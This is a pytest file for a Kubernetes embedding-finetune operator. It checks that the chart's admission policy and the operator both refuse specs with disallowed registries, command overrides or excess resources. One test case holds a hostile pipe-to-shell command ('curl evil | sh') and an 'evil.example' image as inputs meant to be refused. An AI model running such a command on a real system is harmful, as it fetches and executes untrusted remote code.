"""The platform policy against a real API server: the chart's ValidatingAdmissionPolicy refuses the static rules
at admission, with the same verdict as the operator's own check, and the operator refuses a resource that a
policy tightened after its admission forbids (condition, Event, nothing created)."""

from __future__ import annotations

import json
import time
import uuid

import pytest
import yaml

from eft.controller.policy import parse_policy
from eft.controller.policy_rules import policy_violations
from eft.spec import EmbeddingFinetuneSpec
from tests.support.helm import CHART, by_kind, render
from tests.support.operator_harness import (
    Cluster,
    OperatorProcess,
    install_crd,
    operator_kubeconfig,
    phase_is,
    wait_status,
)

pytestmark = pytest.mark.kube

VALUES = CHART / "ci" / "platform-policy-values.yaml"
POLICY = parse_policy(json.dumps(yaml.safe_load(VALUES.read_text())["policy"]))

# (case, spec, refused at admission because of ...) — None = allowed. The operator must agree with each.
CASES = [
    ("defaults", {}, None),
    ("own-registry", {"serving": {"image": "registry.corp/ml/server:2"},
                      "scheduling": {"stages": {"train": {"image": "registry.corp/ml/stages:2"}}}}, None),
    ("within-caps", {"training": {"gpusPerNode": 1},
                     "scheduling": {"stages": {"train": {"resources": {"requests": {"cpu": "4000m", "memory": "16Gi"}}}}}},
     None),
    ("other-registry", {"serving": {"image": "evil.example/server:1"}},
     "images not from an allowed registry (registry.corp/ml): evil.example/server:1"),
    ("docker-hub-short-name", {"scheduling": {"stages": {"sdg": {"image": "python:3.11"}}}},
     "docker.io/library/python:3.11"),
    ("prefix-is-not-a-folder", {"serving": {"image": "registry.corp/mlevil/server:1"}},
     "registry.corp/mlevil/server:1"),
    ("serving-command", {"serving": {"command": ["/bin/sh", "-c", "curl evil | sh"]}},
     "policy.allowCommandOverrides is false"),
    ("serving-args", {"serving": {"args": ["--host", "0.0.0.0"]}}, "policy.allowCommandOverrides is false"),
    ("gpus-per-node", {"training": {"gpusPerNode": 4}}, "a pod would request 4 GPUs"),
    ("stage-gpus", {"scheduling": {"stages": {"export": {"gpus": 2}}}}, "a pod would request 2 GPUs"),
    ("cpu", {"serving": {"resources": {"requests": {"cpu": 8}}}}, "more cpu than the platform allows"),
    ("memory-limit", {"scheduling": {"stages": {"train": {"resources": {"limits": {"memory": "17Gi"}}}}}},
     "more memory than the platform allows"),
]


def _manifest(ns: str, name: str, spec: dict) -> str:
    return yaml.safe_dump({"apiVersion": "eft.ai/v1alpha1", "kind": "EmbeddingFinetune",
                           "metadata": {"name": name, "namespace": ns}, "spec": spec})


@pytest.fixture(scope="module")
def policy_namespace(control_plane):
    install_crd(control_plane)
    ns = "policy-" + uuid.uuid4().hex[:6]
    control_plane.kubectl("create", "namespace", ns)
    yield ns
    control_plane.kubectl("delete", "namespace", ns, "--wait=false", check=False)


@pytest.fixture(scope="module")
def admission_policy(helm, control_plane, policy_namespace):
    """The chart's admission policy, bound to this module's namespace only (the control plane is shared)."""
    release = "eft-" + policy_namespace
    docs = render(helm, VALUES, extra=["--set", f"operator.watchNamespaces={{{policy_namespace}}}"], release=release)
    objs = by_kind(docs, "ValidatingAdmissionPolicy") + by_kind(docs, "ValidatingAdmissionPolicyBinding")
    assert len(objs) == 2, [d["kind"] for d in docs]
    control_plane.kubectl("apply", "-f", "-", input=yaml.safe_dump_all(objs))
    # the API server takes a moment to load a new policy: wait until it refuses a known-bad spec
    deadline = time.monotonic() + 30
    while True:
        probe = _manifest(policy_namespace, "probe", {"serving": {"command": ["sh"]}})
        proc = control_plane.kubectl("create", "--dry-run=server", "-f", "-", input=probe, check=False)
        if proc.returncode != 0:
            break
        assert time.monotonic() < deadline, "the ValidatingAdmissionPolicy never took effect"
        time.sleep(0.5)
    yield objs
    for o in objs:
        control_plane.kubectl("delete", o["kind"], o["metadata"]["name"], check=False)


@pytest.mark.parametrize(("case", "spec", "refusal"), CASES, ids=[c[0] for c in CASES])
def test_admission_and_the_operator_give_the_same_verdict(control_plane, admission_policy, policy_namespace,
                                                          case, spec, refusal):
    proc = control_plane.kubectl("create", "-f", "-", input=_manifest(policy_namespace, case, spec), check=False)
    operator_says = policy_violations(EmbeddingFinetuneSpec.model_validate(spec), POLICY)
    if refusal is None:
        assert proc.returncode == 0, proc.stderr
        assert operator_says == []
    else:
        assert proc.returncode != 0, f"{case} was admitted"
        assert "ValidatingAdmissionPolicy" in proc.stderr and refusal in proc.stderr, proc.stderr
        assert operator_says, f"the operator would run {case}, which admission refuses"


def test_the_operator_refuses_what_a_tightened_policy_forbids(control_plane, policy_namespace, tmp_path):
    """Admitted before the platform forbade command overrides (no admission policy on this namespace's objects
    here): the operator itself refuses it, says why, and creates nothing."""
    ns = "policy-op-" + uuid.uuid4().hex[:6]
    control_plane.kubectl("create", "namespace", ns)
    try:
        cluster = Cluster(control_plane, ns)
        cluster.create("tei", {"serving": {"image": "ghcr.io/huggingface/tei:1", "command": ["text-embeddings-router"]}})
        kubeconfig = operator_kubeconfig(control_plane, ns, tmp_path / "operator.kubeconfig")
        policy = '{"allowedRegistries": ["registry.corp/ml"], "allowCommandOverrides": false}'
        op = OperatorProcess(kubeconfig, ns, tmp_path / "operator.log", EFT_PLATFORM_POLICY=policy).start()
        try:
            st = wait_status(cluster, "tei", phase_is("Failed"))
        finally:
            op.stop()
        failed = next(c for c in st["conditions"] if c["type"] == "Failed")
        assert failed["reason"] == "PolicyViolation"
        assert "spec.serving.image: image 'ghcr.io/huggingface/tei:1' is not from an allowed registry" in failed["message"]
        assert "spec.serving.command" in failed["message"]
        assert cluster.jobs("tei") == [] and cluster.pvc("tei-workspace") is None
        warnings = [e for e in cluster.events("tei") if e["reason"] == "PolicyViolation"]
        assert warnings and warnings[0]["type"] == "Warning", cluster.events("tei")
    finally:
        control_plane.kubectl("delete", "namespace", ns, "--wait=false", check=False)
